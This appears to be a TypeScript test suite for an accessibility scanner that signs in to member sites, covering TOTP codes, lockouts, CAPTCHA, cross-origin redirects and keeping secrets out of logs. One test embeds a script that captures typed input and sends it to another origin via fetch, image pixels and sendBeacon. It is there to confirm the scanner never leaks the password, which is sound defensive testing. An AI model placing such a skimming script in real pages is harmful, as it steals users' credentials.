import { serveDemo } from "@/demo/serve";
import { readSignIn } from "@/scripts/audit/read-sign-in";
import { log } from "@/server/core/log";
import type { SignInInput } from "@/server/scanner/contract";
import type { ScanEngine } from "@/server/scanner/engine";
import { longUnless } from "../support/long";
import { createMembersSite, formAt, type MembersOptions, PASSWORD, TOTP } from "../support/scanner/members-site";
import { expect, scan, scanSignedIn, test } from "../support/scanner/scan";
import { type Answer, soundPage, type TestSite } from "../support/scanner/serve-site";

const quick = { depth: "quick" as const };
type Serve = (pages: (origin: string) => Record<string, Answer>) => Promise<TestSite>;

const serveMembers = async (serve: Serve, options: MembersOptions = {}) => {
  const members = createMembersSite(options);
  const site = await serve(() => members.answers);
  return { site, attempts: members.attempts };
};

const failureOf = async (engine: ScanEngine, site: TestSite, signIn: SignInInput): Promise<string> =>
  scanSignedIn(engine, site.origin, signIn, quick).then(
    () => "signed_in",
    (error: { code: string }) => error.code,
  );

const forms: [string, MembersOptions, object][] = [
  ["one step", {}, {}],
  ["two steps", { form: "two" }, {}],
  ["a one-time code", { requestsCode: true }, { totp: TOTP }],
  ["three steps", { form: "two", requestsCode: true }, { totp: `otpauth://totp/Club:ada?secret=${TOTP}&issuer=Club` }],
];

for (const [name, options, more] of forms)
  test(`signs in once with a form that has ${name}, and finds barriers behind it${longUnless(name === "one step")}`, async ({
    engine,
    serve,
  }) => {
    const { site, attempts } = await serveMembers(serve, options);
    const { byPath } = await scanSignedIn(engine, site.origin, formAt(site.origin, more), quick);
    expect(Object.keys(byPath).sort()).toEqual(["/", "/account", "/orders"]);
    for (const [path, { error }] of Object.entries(byPath)) expect.soft(error, path).toBeNull();
    expect(byPath["/account"]?.axe?.violations.map(({ rule_id }) => rule_id)).toContain("image-alt");
    expect(attempts.filter((each) => each === "signed in")).toHaveLength(1);
    expect(attempts).not.toContain("signed out");
  });

const failures: [string, MembersOptions, object][] = [
  ["sign_in_rejected", {}, { password: "wrong-password" }],
  ["sign_in_locked", { locks: true }, { password: "wrong-password" }],
  ["sign_in_code_needed", { requestsCode: true }, {}],
  ["sign_in_code_rejected", { requestsCode: true }, { totp: "GEZDGNBVGY3TQOJQ" }],
];

for (const [code, options, more] of failures)
  test(`if signing in fails with ${code}, ends the audit without another attempt${longUnless(code === "sign_in_rejected")}`, async ({
    engine,
    serve,
  }) => {
    const { site, attempts } = await serveMembers(serve, options);
    expect(await failureOf(engine, site, formAt(site.origin, more))).toBe(code);
    const wrong = attempts.filter((each) => /wrong|locked/.test(each));
    expect(wrong).toHaveLength(code === "sign_in_code_needed" ? 0 : 1);
  });

test("doesn't mistake a refusal without a form, or a step on another origin, for a successful sign-in @long", async ({
  engine,
  serve,
}) => {
  const form = `<form method="post"><label>Email <input type="email" name="login"></label>
    <label>Password <input type="password" name="pw"></label><button>Sign in</button></form>`;
  const answerWith =
    (status: number, body: string): Answer =>
    (request, response) => {
      if (request.method === "POST") response.writeHead(status, { "content-type": "text/html" }).end(soundPage(body));
      else response.writeHead(200, { "content-type": "text/html" }).end(soundPage(form));
    };
  const denied = await serve(() => ({
    "/": "<p>Start</p>",
    "/sign-in": answerWith(403, "<p>Access denied.</p>"),
    "/broken": answerWith(500, "<p>Something went wrong.</p>"),
  }));
  expect(await failureOf(engine, denied, formAt(denied.origin))).toBe("sign_in_rejected");
  const broken = formAt(denied.origin, { url: `${denied.origin}/broken` });
  expect(await failureOf(engine, denied, broken)).toBe("sign_in_unreachable");
  const elsewhere = await serve(() => ({ "*": "<p>Enter the code that we have sent you.</p>" }));
  const away = await serve(() => ({
    "/": "<p>Start</p>",
    "/sign-in": (request, response) => {
      if (request.method === "POST") response.writeHead(303, { location: `${elsewhere.origin}/code` }).end();
      else response.writeHead(200, { "content-type": "text/html" }).end(soundPage(form));
    },
  }));
  expect(await failureOf(engine, away, formAt(away.origin))).toBe("sign_in_other_origin");
});

test("doesn't send the password if the page contains a CAPTCHA, has no form or is on another origin @long", async ({
  engine,
  serve,
}) => {
  const { site, attempts } = await serveMembers(serve, { captcha: true });
  expect(await failureOf(engine, site, formAt(site.origin))).toBe("sign_in_captcha");
  expect(await failureOf(engine, site, formAt(site.origin, { url: `${site.origin}/` }))).toBe("sign_in_form_missing");
  const away = await serve(() => ({
    "/sign-in": (_, response) => response.writeHead(302, { location: `${site.origin}/sign-in` }).end(),
    "*": "<p>Start</p>",
  }));
  const { site: plain } = await serveMembers(serve);
  const there = await serve(() => ({
    "*": (_, response) => response.writeHead(302, { location: `${plain.origin}/sign-in` }).end(),
  }));
  expect(await failureOf(engine, there, { ...formAt(plain.origin), origins: [there.origin] })).toBe(
    "sign_in_other_origin",
  );
  expect(attempts).toEqual([]);
  expect(away.hits).toEqual([]);
});

test("never sends the password to another origin, even if the form or a script does @long", async ({
  engine,
  serve,
}) => {
  const received: string[] = [];
  const other = await serve(() => ({
    "*": (request, response) => {
      let body = "";
      request.on("data", (chunk: Buffer) => {
        body += chunk.toString();
      });
      request.on("end", () => {
        received.push(`${request.url} ${body}`);
        response.writeHead(200, { "access-control-allow-origin": "*" }).end("ok");
      });
    },
  }));
  const head = `<script>document.addEventListener("input", ({ target }) => {
    fetch("${other.origin}/typed", { method: "POST", mode: "no-cors", body: target.value });
    new Image().src = "${other.origin}/pixel?" + encodeURIComponent(target.value);
    navigator.sendBeacon("${other.origin}/blob", new Blob([target.value]));
    fetch("${other.origin}/long", { method: "POST", mode: "no-cors", body: target.value + "x".repeat(100_000) });
  });</script>`;
  const { site, attempts } = await serveMembers(serve, { head });
  await scanSignedIn(engine, site.origin, formAt(site.origin), quick);
  expect(attempts).toEqual(["signed in"]);
  expect(received.length).toBeGreaterThan(0);
  expect(received.filter((each) => each.includes(PASSWORD) || each.includes(encodeURIComponent(PASSWORD)))).toEqual([]);
});

test("uses the given selectors, and verifies that the text for signed-in users appears @long", async ({
  engine,
  serve,
}) => {
  const { site, attempts } = await serveMembers(serve);
  const selectors = { user_name: "[name=login]", password: "[name=pw]", submit: "form button" };
  const signIn = {
    ...formAt(site.origin, { selectors }),
    signed_in: { url: `${site.origin}/orders`, text: "Log out" },
  };
  const { byPath } = await scanSignedIn(engine, site.origin, signIn, quick).catch((error: unknown) => {
    throw error;
  });
  expect(byPath["/orders"]?.error).toBeNull();
  expect(attempts).toEqual(["signed in"]);
  const wrong = { ...formAt(site.origin), signed_in: { url: `${site.origin}/orders`, text: "Hello, Grace" } };
  const { site: second } = await serveMembers(serve);
  const moved = JSON.parse(JSON.stringify(wrong).replaceAll(site.origin, second.origin));
  expect(await failureOf(engine, second, moved)).toBe("sign_in_unconfirmed");
});

test("signs in again if the session ends, scans the affected pages again, and misses no page @long", async ({
  engine,
  serve,
}) => {
  const pages = { "/invoices": "<p>Invoices</p>", "/letters": "<p>Letters</p>" };
  const inPlaces = [false, true];
  for (const inPlace of inPlaces) {
    const { site, attempts } = await serveMembers(serve, {
      pages: { ...pages, "/orders": `<p><a href="/invoices">Invoices</a> <a href="/letters">Letters</a></p>` },
      endsAt: "/invoices",
      inPlace,
    });
    const { byPath } = await scanSignedIn(engine, site.origin, formAt(site.origin), quick);
    expect(Object.keys(byPath).sort()).toEqual(["/", "/account", "/invoices", "/letters", "/orders"]);
    for (const [path, { error }] of Object.entries(byPath)) expect.soft(error, `${path} ${inPlace}`).toBeNull();
    expect(attempts).toEqual(["signed in", "signed in"]);
  }
});

test("names the page that ends every session, doesn't score it, and scans the others @long", async ({
  engine,
  serve,
}) => {
  const pages = {
    "/orders": `<p><a href="/invoices">Invoices</a> <a href="/letters">Letters</a></p>`,
    "/invoices": "",
    "/letters": "",
  };
  const { site, attempts } = await serveMembers(serve, { pages, endsAt: "/invoices", endsAlways: true });
  const { byPath, summary } = await scanSignedIn(engine, site.origin, formAt(site.origin), quick);
  expect(byPath["/invoices"]).toMatchObject({ axe: null, error: { code: "signed_out" } });
  expect(byPath["/letters"]?.error).toBeNull();
  expect(summary.pages_failed).toBe(1);
  expect(attempts).toEqual(["signed in", "signed in"]);
});

test("if a resumed scan can't sign in, names the remaining pages and doesn't open any of them @long", async ({
  engine,
  serve,
}) => {
  const { site, attempts } = await serveMembers(serve);
  const signIn = formAt(site.origin, { password: "wrong-password" });
  const { byPath, summary } = await scanSignedIn(engine, site.origin, signIn, {
    ...quick,
    pages_done: 1,
    skip_urls: [`${site.origin}/`],
    known_urls: [`${site.origin}/`, `${site.origin}/account`, `${site.origin}/orders`],
  });
  expect(Object.entries(byPath).map(([path, { error }]) => [path, error?.code])).toEqual([
    ["/account", "signed_out"],
    ["/orders", "signed_out"],
  ]);
  expect(summary).toMatchObject({ pages_done: 3, pages_failed: 2 });
  expect(attempts).toEqual(["wrong password"]);
});

test("doesn't try to sign in a third time if signing in again fails @long", async ({ engine, serve }) => {
  const pages = {
    "/orders": `<p><a href="/invoices">Invoices</a> <a href="/letters">Letters</a></p>`,
    "/invoices": "",
    "/letters": "",
  };
  const { site, attempts } = await serveMembers(serve, { pages, endsAt: "/invoices", signsInAgain: false });
  const { byPath } = await scanSignedIn(engine, site.origin, formAt(site.origin), quick);
  expect(byPath["/invoices"]).toMatchObject({ axe: null, error: { code: "signed_out" } });
  expect(byPath["/"]?.error).toBeNull();
  expect(attempts).toEqual(["signed in", "wrong password"]);
});

test("finds the flaw in the demo shop that only a signed-in audit finds @long", async ({ engine }) => {
  const shop = await serveDemo();
  try {
    const start = `${shop.url}/account/`;
    await expect(scan(engine, start, { ...quick, max_pages: 1 })).rejects.toMatchObject({ code: "login_page" });
    const signIn = await readSignIn("demo/sign-in.json", start);
    const options = { ...quick, include: ["/account/"], lighthouse: true };
    const { byPath, summary } = await scanSignedIn(engine, start, signIn, options);
    expect(Object.keys(byPath).sort()).toEqual(["/account/", "/account/orders"]);
    const found = byPath["/account/orders"]?.axe?.violations.map(({ rule_id }) => rule_id);
    expect(found).toEqual(["image-alt"]);
    expect(summary.lighthouse).toMatchObject({ error: { code: "signed_in" } });
  } finally {
    await shop.close();
  }
});

test("doesn't write secrets to the log @long", async ({ engine, serve }) => {
  const lines: string[] = [];
  const write = process.stdout.write.bind(process.stdout);
  const level = log.level;
  log.level = "debug";
  process.stdout.write = ((chunk: string | Uint8Array) => {
    lines.push(String(chunk));
    return true;
  }) as typeof process.stdout.write;
  try {
    const { site } = await serveMembers(serve, { locks: true });
    await failureOf(engine, site, formAt(site.origin, { totp: TOTP }));
    await failureOf(engine, site, formAt(site.origin, { totp: TOTP, selectors: { password: "h1" } }));
  } finally {
    process.stdout.write = write;
    log.level = level;
  }
  const text = lines.join("");
  for (const secret of [PASSWORD, TOTP]) expect.soft(text).not.toContain(secret);
});
